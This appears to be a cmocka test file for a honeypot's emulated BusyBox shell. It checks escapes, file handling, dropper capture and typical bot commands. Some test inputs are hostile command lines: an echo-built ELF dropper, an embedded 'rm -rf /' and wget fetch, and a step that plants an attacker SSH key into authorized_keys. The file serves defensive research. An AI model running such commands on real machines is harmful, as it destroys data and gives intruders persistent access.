/* The shell as loaders use it: escapes, files, redirections, and what must not be believed. */
#include "conversation.h"
#include "protocol/shell.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

struct fixture {
	struct shell shell;
	struct conversation conversation;
	struct protocol_io io;
	struct buf out;
};

static const struct protocol_module no_module = {.name = "test"};

static void note(void *arg, const void *data, size_t len)
{
	buf_append(arg, data, len);
}

static int set_up(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	conversation_begin(&f->conversation, true, false, 23);
	f->io.answering = true;
	f->io.persona = f->conversation.persona;
	f->io.module = &no_module;
	f->io.fact = trace_fact;
	f->io.fact_arg = &f->conversation.trace;
	*state = f;
	return 0;
}

static int tear_down(void **state)
{
	struct fixture *f = *state;

	shell_close(&f->shell, &f->io);
	conversation_free(&f->conversation);
	buf_fini(&f->out);
	free(f);
	return 0;
}

/* Runs the line; what it prints must be this. */
static void expect(struct fixture *f, const char *line, const char *out)
{
	buf_reset(&f->out);
	shell_line(&f->shell, &f->io, line, strlen(line), note, &f->out);
	assert_string_equal(buf_text(&f->out), out);
}

static void expect_facts(struct fixture *f, const char *facts)
{
	assert_string_equal(buf_text(&f->conversation.trace.facts), facts);
	buf_reset(&f->conversation.trace.facts);
}

static void echo_decodes(void **state)
{
	struct fixture *f = *state;

	expect(f, "echo a  b", "a b\n");
	expect(f, "echo -e '\\x6b\\x61\\x6d\\x69'", "kami\n");
	expect(f, "echo -ne '\\x6B\\0141\\155i\\c'x", "kami");
	expect(f, "echo -e 'a\\\\tb\\tc'", "a\\tb\tc\n");
	expect(f, "echo '\\x41'", "\\x41\n");
	expect(f, "echo -x -n", "-x -n\n");
	expect(f, "echo -en \"\\x41\\x4\"", "A\x04");
	expect(f, "echo \\x41 a\\ b", "x41 a b\n");
	expect(f, "/bin/busybox echo -n hi; /bin/echo there", "hithere\n");
	expect(f, "printf 'a%sb%%\\n' X", "aXb%\n");
	buf_reset(&f->out);
	shell_line(&f->shell, &f->io, "echo -ne '\\x00\\xff'", 19, note, &f->out);
	assert_int_equal(f->out.len, 2);
	assert_memory_equal(f->out.data, "\0\xff", 2);
}

static void files_are_consistent(void **state)
{
	struct fixture *f = *state;

	expect(f, "cd /tmp; echo one > a; echo two >> a; cat a", "one\ntwo\n");
	expect(f, "cat /tmp/../tmp/./a | head -n 1", "one\n");
	expect(f, "echo three > /tmp/a; cat < a", "three\n");
	expect(f, "cp a b; rm a; cat b; cat a",
	    "three\ncat: can't open 'a': No such file or directory\n");
	expect(f, "rm a", "rm: can't remove 'a': No such file or directory\n");
	expect(f, "rm -f a; echo $?", "0\n");
	expect(f, "mv b c; ls", "c\n");
	expect(f, "chmod 777 nothing", "chmod: nothing: No such file or directory\n");
	expect(f, "echo x > /proc/y", "-sh: can't create /proc/y: Permission denied\n");
	expect(f, "echo x > /no/y", "-sh: can't create /no/y: nonexistent directory\n");
	expect(f, "echo x > /dev/null", "");
	expect(f, "cd /nothing || cd /var/run; pwd", "-sh: cd: can't cd to /nothing\n/var/run\n");
}

static void droppers_are_payloads(void **state)
{
	struct fixture *f = *state;

	expect(f, "cd /tmp;>d;chmod 777 d", "");
	expect(f, "echo -ne '\\x7f\\x45\\x4c\\x46' > d", "");
	expect(f, "echo -ne '\\x01\\x02' >> d", "");
	buf_reset(&f->conversation.trace.facts);
	expect(f, "./d", "");
	expect_facts(f, "F: command \"./d\"\nF: payload 0 \"d\" 6 bytes end\n");
	/* A second one in its place, ended by the session. */
	expect(f, "echo 12 > d", "");
	buf_reset(&f->conversation.trace.facts);
	shell_close(&f->shell, &f->io);
	expect_facts(f, "F: payload 0 \"d\" 3 bytes end\n");
}

static void more_files_than_room(void **state)
{
	struct fixture *f = *state;
	char line[64];

	for (unsigned i = 0; i < 3 * SHELL_FILES; i++) {
		(void)snprintf(line, sizeof(line), "echo %u > /tmp/f%u; cat /tmp/f%u", i, i, i);
		buf_reset(&f->out);
		shell_line(&f->shell, &f->io, line, strlen(line), note, &f->out);
		(void)snprintf(line, sizeof(line), "%u\n", i);
		assert_string_equal(buf_text(&f->out), line);
	}
	expect(f, "cat /tmp/f0", "cat: can't open '/tmp/f0': No such file or directory\n");
}

static void executables(void **state)
{
	struct fixture *f = *state;

	buf_reset(&f->out);
	shell_line(&f->shell, &f->io, "cat /bin/echo", 13, note, &f->out);
	assert_true(f->out.len >= 52);
	assert_memory_equal(f->out.data, "\x7f" "ELF", 4);
	expect(f, "cp /bin/echo /tmp/e; /tmp/e copied", "copied\n");
	expect(f, "dd if=/tmp/e bs=4 count=1 | wc -c", "1+0 records in\n1+0 records out\n4\n");
	expect(f, "echo x > /tmp/t; /tmp/t", "-sh: /tmp/t: Permission denied\n");
	expect(f, "while read i; do echo $i; done < /tmp/t", "x\n");
	expect(f, "true || while read i; do echo $i; done < /tmp/t", "");
	expect(f, "/bin/busybox ABC; busybox busybox abc",
	    "ABC: applet not found\nabc: applet not found\n");
}

static void language(void **state)
{
	struct fixture *f = *state;

	expect(f, "true && echo a || echo b; false && echo c || echo d", "a\nd\n");
	expect(f, "echo 'a;b|c' # comment", "a;b|c\n");
	expect(f, "A=1 B=2 echo x;;;; echo y", "x\ny\n");
	expect(f, "echo $(rm -rf /) `wget http://192.0.2.1/`x", " x\n");
	expect(f, "echo a 2>&1 >/dev/null; echo b 1>&2", "b\n");
	expect(f, "echo${IFS}b", "b\n");
	expect(f, "if [ -d /tmp ]; then echo d; else echo n; fi", "d\n");
	expect(f, "(echo a; echo b) | cat", "a\nb\n");
	expect(f, "$UNSET echo; \"", "");
	expect(f, "echo one | grep two; echo $?", "1\n");
	expect(f, "printf abc | base64; printf YWJj | base64 -d", "YWJj\nabc");
	expect(f, "sh -c 'echo nested'; exit; echo after", "");
	assert_true(f->shell.over);
}

/* What visitors of honeypots ask machines, and must get a line for. */
static void machine(void **state)
{
	struct fixture *f = *state;
	char line[256];

	expect(f, "printf '1 2 3\\n4 5 6\\n' | awk '{print $3, $1;}'", "3 1\n6 4\n");
	expect(f, "cat /proc/cpuinfo | grep 'model name' | wc -l", "1\n");
	expect(f, "hexdump -e '16/1 \"%c\"' -n 4 /bin/ls", "\x7f" "ELF");
	expect(f, "cat //bin/nothing",
	    "cat: can't open '//bin/nothing': No such file or directory\n");
	(void)snprintf(line, sizeof(line), "Linux %s x86_64\n",
	    persona_text(f->io.persona, "persona.hostname"));
	expect(f, "uname -m -s -n", line);
	expect(f, "uname", "Linux\n");
	expect(f, "uname -m", "x86_64\n");
	expect(f, "which awk base64 busybox cat chmod cp dd echo nc ps rm sh uname xargs",
	    "/bin/awk\n/bin/base64\n/bin/busybox\n/bin/cat\n/bin/chmod\n/bin/cp\n/bin/dd\n"
	    "/bin/echo\n/bin/nc\n/bin/ps\n/bin/rm\n/bin/sh\n/bin/uname\n/bin/xargs\n");
	expect(f, ">/tmp/.ptmx && cd /tmp/; pwd; >/no/.ptmx && cd /no",
	    "/tmp\n-sh: can't create /no/.ptmx: nonexistent directory\n");
	expect(f, "mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys && "
	          "chmod -R go= .ssh && cat .ssh/authorized_keys", "ssh-rsa AAAA mdrfckr\n");
}

static void output_is_bounded(void **state)
{
	struct fixture *f = *state;
	char line[SHELL_LINE_MAX];
	size_t len = 0;

	while (len + 18 < sizeof(line))
		len += (size_t)snprintf(line + len, sizeof(line) - len, "cat /proc/mounts;");
	buf_reset(&f->out);
	shell_line(&f->shell, &f->io, line, len, note, &f->out);
	assert_int_equal(f->out.len, SHELL_OUTPUT_MAX);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(echo_decodes, set_up, tear_down),
		cmocka_unit_test_setup_teardown(files_are_consistent, set_up, tear_down),
		cmocka_unit_test_setup_teardown(droppers_are_payloads, set_up, tear_down),
		cmocka_unit_test_setup_teardown(more_files_than_room, set_up, tear_down),
		cmocka_unit_test_setup_teardown(executables, set_up, tear_down),
		cmocka_unit_test_setup_teardown(language, set_up, tear_down),
		cmocka_unit_test_setup_teardown(machine, set_up, tear_down),
		cmocka_unit_test_setup_teardown(output_is_bounded, set_up, tear_down),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
